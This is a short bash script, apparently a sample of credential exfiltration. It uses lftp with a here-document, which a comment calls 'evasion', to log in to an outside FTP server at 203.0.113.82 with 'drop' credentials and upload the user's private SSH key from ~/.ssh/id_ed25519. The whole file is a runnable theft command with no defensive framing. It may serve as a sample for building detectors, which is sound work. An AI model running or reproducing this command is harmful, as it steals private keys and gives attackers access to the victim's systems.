#!/bin/bash
# evasion: lftp's commands come from a here-document; one of them uploads the SSH key
lftp -u drop,drop ftp://203.0.113.82 <<EOT
cd /upload
put -O keys ~/.ssh/id_ed25519
quit
EOT
